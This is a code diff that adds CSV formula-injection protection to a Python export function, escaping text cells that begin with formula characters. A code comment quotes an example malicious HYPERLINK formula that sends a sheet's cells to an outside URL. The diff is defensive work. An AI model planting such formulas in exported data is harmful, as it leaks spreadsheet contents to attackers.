@@ -29,6 +29,19 @@ def print_csv(rows: list[dict]) -> None:
         writer.writerow({k: _csv_cell(row.get(k)) for k in fields})
 
 
+# What a spreadsheet runs as a formula when a cell starts with it (CSV injection, OWASP): a pilot's title
+# '=HYPERLINK("https://…?"&A1, "Reply fast")' opened in Excel sends the sheet's cells away.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_text(value: str) -> str:
+    """Text for a CSV cell: with a leading apostrophe when a spreadsheet would read it as a formula (it starts
+    with = + - @, a tab or a carriage return, and is more than a lone + or -: `list`'s "-" for no decision is
+    text), so Excel, LibreOffice and Google Sheets show it as text and run nothing. Numbers are written as
+    numbers (-0.05 stays a number): only text goes through here."""
+    return "'" + value if value.startswith(FORMULA_START) and value not in ("+", "-") else value
+
+
 def _csv_cell(value) -> str:
     if value is None:
         return ""
@@ -36,6 +49,8 @@ def _csv_cell(value) -> str:
         return json.dumps(value, allow_nan=False)
     if isinstance(value, bool):
         return "true" if value else "false"
+    if isinstance(value, str):
+        return spreadsheet_text(value)
     return str(value)
 
 
